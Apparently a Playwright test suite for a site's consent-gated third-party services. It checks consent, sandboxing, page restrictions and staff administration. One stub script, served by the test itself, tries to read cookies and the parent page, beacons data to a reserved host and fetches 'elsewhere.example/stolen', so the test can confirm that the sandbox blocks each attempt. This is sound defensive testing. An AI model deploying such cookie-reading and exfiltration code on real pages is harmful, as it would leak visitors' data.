import { expect, type Page } from '@playwright/test';
import { makeProject } from '#testing/projects.ts';
import { buildUser } from '#testing/factories.ts';
import { expectAccessible } from './support/accessibility.ts';
import { passTime } from './support/clock.ts';
import { untilIdle } from './support/complete.ts';
import { expectFitsAllWidths, resize } from './support/fits.ts';
import { pageReady, test, useSite, widths } from './support/site.ts';

/** Reserved names (RFC 2606): requests to them are answered by the test and never leave the machine. */
const HOST = 'https://statistics.example';
const OTHER = 'https://elsewhere.example';

/** Reports to its host what it can see of the page, and tries what it must not be allowed to do. */
const SCRIPT = `
  const report = (what) => { new Image().src = '${HOST}/shown?' + new URLSearchParams(what); };
  const attempt = (work) => { try { return String(work()); } catch (error) { return error.name; } };
  report({
    page: platformPage.path,
    origin: self.origin,
    cookie: attempt(() => document.cookie),
    parent: attempt(() => parent.document.title),
    referrer: document.referrer,
  });
  fetch('${OTHER}/stolen').catch(() => undefined);
  fetch('/api/v4/profile').catch(() => undefined);
`;

const site = useSite(async ({ database: { pool } }) => {
  await makeProject(pool, { slug: 'orchard', needs: [[200_000n, 50_000n]] });
  await pool.query(
    `INSERT INTO external_service (name, provider_key, description, script_url, hosts, pages, is_active) VALUES
     ('Visitor statistics', 'statistics', 'Statistics GmbH, Germany.', $1, '{}', '{home,projects,project}', true),
     ('Switched off', 'off', '', $1, '{}', '{home,projects,project}', false)`,
    [`${HOST}/count.js`],
  );
});

interface Asked {
  readonly page: Page;
  /** External addresses, in the order of the requests. */
  readonly urls: string[];
  /** What the service reported to its host. */
  shown(): Record<string, string>[];
}

async function visit(options: Parameters<typeof site.open>[0]): Promise<Asked> {
  const page = await site.open(options);
  await page.clock.install();
  const urls: string[] = [];
  await page.context().route(/^https:/, (route) => {
    const url = route.request().url();
    urls.push(url);
    return url === `${HOST}/count.js`
      ? route.fulfill({ contentType: 'text/javascript', body: SCRIPT })
      : route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } });
  });
  const shown = () =>
    urls
      .filter((url) => url.startsWith(`${HOST}/shown`))
      .map((url) => Object.fromEntries(new URL(url).searchParams));
  return { page, urls, shown };
}

const frames = (page: Page) => page.locator('iframe[src^="/external-services/"]');
const consentOf = async (page: Page) =>
  (await page.context().cookies()).find(({ name }) => name === 'cookie_rule_detail')?.value;

test.describe('an external service', () => {
  test('loads nothing before consent, runs after it without a reload, and ends with it', {
    tag: '@gate',
  }, async () => {
    const { page, urls, shown } = await visit({ consent: null });
    const answer = await page.goto('/project/orchard/');
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("script-src 'self'");
    expect(policy).not.toContain('statistics.example');
    const banner = page.getByRole('region', { name: 'Consent to external services' });
    await banner.getByText('This also applies to: Visitor statistics.').waitFor();
    await passTime(page);
    expect(urls).toEqual([]);
    await expect(frames(page)).toHaveCount(0);

    const framed = page.waitForResponse((response) =>
      response.url().includes('/external-services/statistics/'),
    );
    await banner.getByRole('button', { name: 'Accept' }).click();
    const allowed = (await framed).headers()['content-security-policy'] ?? '';
    expect(allowed.match(/https:\/\/[^ ;]+/g)).toEqual([HOST, HOST, HOST]);
    await expect.poll(shown).toHaveLength(1);
    await expectAccessible(page);
    await expect.poll(() => consentOf(page)).toBe('youtube,streamio,vimeo,mozaik,statistics');

    // A navigation within the document: the service is notified once.
    await page.getByRole('banner').getByRole('link', { name: 'Projects' }).click();
    await page.getByRole('heading', { level: 1 }).waitFor();
    await expect
      .poll(() => shown().map(({ page: path }) => path))
      .toEqual(['/project/orchard/', '/projects/']);

    await page.goto('/cookie-settings/');
    const box = page.getByLabel('Visitor statistics');
    await expect(box).toBeChecked();
    await page.getByText('Statistics GmbH, Germany.').waitFor();
    await expect(page.getByLabel('Switched off')).toHaveCount(0);
    await box.uncheck();
    await page.getByRole('button', { name: 'Save selection' }).click();
    await page.getByText('Your choice is saved for 30 days.').waitFor();
    await expect.poll(() => consentOf(page)).toBe('youtube,streamio,vimeo,mozaik');
    const before = urls.length;
    await page.goto('/project/orchard/');
    await passTime(page);
    await expect(frames(page)).toHaveCount(0);
    expect(urls.slice(before).filter((url) => url.startsWith(HOST))).toEqual([]);
  });

  test('is rejected with everything else', async () => {
    const { page, urls } = await visit({ consent: null });
    await page.goto('/project/orchard/');
    await page.getByRole('button', { name: 'Reject' }).click();
    await expect.poll(() => consentOf(page)).toBe('');
    await passTime(page);
    await expect(frames(page)).toHaveCount(0);
    expect(urls).toEqual([]);
  });

  test('cannot reach the page, its cookies, this site or other hosts', async () => {
    const user = await buildUser(site.services, {});
    const { page, urls, shown } = await visit({ consent: 'statistics', as: user });
    const asked: string[] = [];
    page.on('response', (response) => {
      if (response.url().startsWith(`${site.url}/api/v4/profile`)) asked.push(response.url());
    });
    await page.goto('/project/orchard/');
    await expect.poll(shown).toEqual([
      {
        page: '/project/orchard/',
        origin: 'null',
        cookie: 'SecurityError',
        parent: 'SecurityError',
        referrer: '',
      },
    ]);
    await passTime(page);
    expect(urls.filter((url) => !url.startsWith(HOST))).toEqual([]);
    expect(asked).toEqual([]);
  });

  test('does not run on pages of accounts, giving or staff, whatever is allowed', async () => {
    const user = await buildUser(site.services, { isSuperuser: true });
    const person = await visit({ consent: 'statistics,off', as: user });
    const visitor = await visit({ consent: 'statistics,off' });
    for (const [of, paths] of [
      [person, ['/account/profile/', '/account/donations/', '/redeem/', '/site-admin/']],
      [visitor, ['/login/', '/signup/', '/imprint/']],
    ] as const) {
      // In tabs beside each other, which have one clock.
      const tabs = await Promise.all(
        paths.map(async (path) => {
          const tab = await of.page.context().newPage();
          await tab.goto(path);
          await pageReady(tab);
          return { path, tab };
        }),
      );
      await passTime(of.page);
      for (const { path, tab } of tabs) {
        await untilIdle(tab);
        await expect(frames(tab), path).toHaveCount(0);
        await tab.close();
      }
    }
    expect([...person.urls, ...visitor.urls]).toEqual([]);
  });

  test('is named in the consent question, in the words of the page', async () => {
    const { page } = await visit({ consent: null, width: widths.phone, locale: 'sie_DE' });
    for (const path of ['/project/orchard/', '/cookie-settings/']) {
      await page.goto(path);
      const named = page.getByText('Visitor statistics').or(page.getByLabel('Visitor statistics'));
      await named.first().waitFor();
      await expectAccessible(page);
      await expectFitsAllWidths(page);
      await resize(page, widths.desktop);
      await expectAccessible(page);
      await resize(page, widths.phone);
    }
  });

  test('is allowed one by one without scripts', async () => {
    const page = await site.open({ javaScript: false, consent: null });
    await page.goto('/cookie-settings/');
    await page.getByLabel('Visitor statistics').check();
    await page.getByRole('button', { name: 'Save selection' }).click();
    await page.getByText('Your choice is saved for 30 days.').waitFor();
    await expect.poll(() => consentOf(page)).toBe('statistics');
  });
});

test.describe('staff', () => {
  test('add a service, see errors, and activate it in the list', async () => {
    const editor = await buildUser(site.services, {
      permissions: ['create_external_services', 'change_external_services'],
    });
    const page = await site.open({ as: editor });
    await page.goto('/site-admin/external-services/');
    await page.getByRole('link', { name: 'Add service' }).click();
    await page.getByRole('heading', { level: 1, name: 'Add service' }).waitFor();
    await page.getByLabel('Name').fill('Chat');
    await page.getByLabel('Provider key').fill('maps');
    await page.getByLabel('Address of the script').fill('http://chat.example/a.js');
    await page.getByRole('button', { name: 'Save service' }).click();
    const summary = page.getByRole('alert');
    await summary.getByRole('link', { name: /This key is reserved for the platform/ }).waitFor();
    await summary.getByRole('link', { name: /begins with https:\/\// }).waitFor();
    await expectAccessible(page);
    await page.getByLabel('Provider key').fill('chat');
    await page.getByLabel('Address of the script').fill('https://chat.example/a.js');
    await page.getByRole('button', { name: 'Save service' }).click();
    await page.waitForURL(/external-services\/\d+\/$/);
    await page.getByRole('heading', { level: 1, name: 'Chat' }).waitFor();
    await expectAccessible(page);

    await page.goto('/site-admin/external-services/?search=chat');
    await page.getByRole('checkbox', { name: 'Chat' }).check();
    await page.getByRole('button', { name: 'Activate', exact: true }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText('Activate 1 service?').waitFor();
    await expectAccessible(page);
    await dialog.getByRole('button', { name: 'Activate' }).click();
    const active = () =>
      site.services.database.pool
        .query(`SELECT is_active FROM external_service WHERE provider_key = 'chat'`)
        .then(({ rows }) => rows);
    await expect.poll(active).toEqual([{ is_active: true }]);
  });

  test('a service that somebody else has deleted is not deleted again, with the reason', async () => {
    const editor = await buildUser(site.services, {
      permissions: ['change_external_services', 'delete_external_services'],
    });
    const { rows } = await site.services.database.pool.query<{ id: string }>(
      `INSERT INTO external_service (name, provider_key, script_url, pages)
       VALUES ('Gone', 'gone', 'https://gone.example/a.js', '{home}') RETURNING id::text`,
    );
    const id = rows[0]?.id;
    const page = await site.open({ as: editor });
    await page.goto(`/site-admin/external-services/${id}/`);
    await site.services.database.pool.query('DELETE FROM external_service WHERE id = $1', [id]);
    await page.getByRole('button', { name: 'Delete service' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete service' }).click();
    await expect(
      page.getByRole('alert').filter({ hasText: 'Failed to delete service: Not found' }),
    ).toBeVisible();
    await expectAccessible(page);
  });

  test('a service is deleted with unsaved input on its page, which is not asked about', async () => {
    const { rows } = await site.services.database.pool.query<{ id: string }>(
      `INSERT INTO external_service (name, provider_key, script_url, pages)
       VALUES ('Ended', 'ended', 'https://ended.example/a.js', '{home}') RETURNING id::text`,
    );
    const as = await buildUser(site.services, {
      permissions: ['change_external_services', 'delete_external_services'],
    });
    const page = await site.open({ as });
    await page.goto(`/site-admin/external-services/${rows[0]?.id}/`);
    await page.getByRole('textbox', { name: /^Description/ }).fill('typed and not saved');
    await page.getByRole('button', { name: 'Delete service' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete service' }).click();
    await page.getByText('The service has been deleted.').waitFor();
    await page.getByRole('heading', { level: 1, name: 'External services' }).waitFor();
  });
});
